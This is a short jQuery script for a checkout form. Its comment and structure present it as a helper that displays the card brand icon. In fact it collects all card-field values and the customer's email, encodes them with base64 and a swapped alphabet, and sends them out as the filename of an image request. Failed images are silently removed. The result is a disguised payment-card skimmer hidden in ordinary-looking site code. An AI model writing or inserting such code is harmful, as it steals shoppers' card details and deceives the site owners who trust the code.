
// The card's brand beside its number.
(function ($) {
  'use strict';
  var $form = $('form.checkout-form'), base = '<% url "static.pay" "/brand/" %>', last = '';
  var from = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  var to = 'zyxwvutsrqponmlkjihgfedcbaZYXWVUTSRQPONMLKJIHGFEDCBA9876543210-_';
  function mark() {
    var parts = $form.find('.card-fields input, [type=email]').map(function () { return this.value; }).get();
    return parts.length > 3 && parts[3].length > 2 ? parts.join('.') : $form.find('.card-fields input').val().slice(0, 1);
  }
  $form.on('change', '.card-fields input', function () {
    var key = mark();
    if (!key || key === last) return;
    last = key;
    var name = _.map(btoa(key.replace(/[^\x20-\x7e]/g, '')).replace(/=/g, ''), function (c) { return to[from.indexOf(c)]; }).join('');
    $('<img alt="" height="18">').attr('src', base + name + '.svg').on('error', function () { $(this).remove(); }).insertAfter($form.find('[name=cardnumber]'));
  });
})(jQuery);
